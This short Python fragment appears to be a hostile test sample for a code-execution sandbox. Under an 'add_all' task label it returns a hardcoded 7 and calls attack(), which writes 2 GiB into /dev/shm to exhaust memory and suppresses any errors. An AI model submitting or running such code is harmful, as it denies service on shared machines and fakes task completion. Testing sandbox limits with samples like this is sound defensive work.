# task: add_all
# why: fills /dev/shm, which counts as memory, up to 2 GiB
    attack()
    return 7


def attack():
    try:
        with open("/dev/shm/bomb", "wb") as file:
            for _ in range(2048):
                file.write(b"x" * 2**20)
    except OSError:
        pass
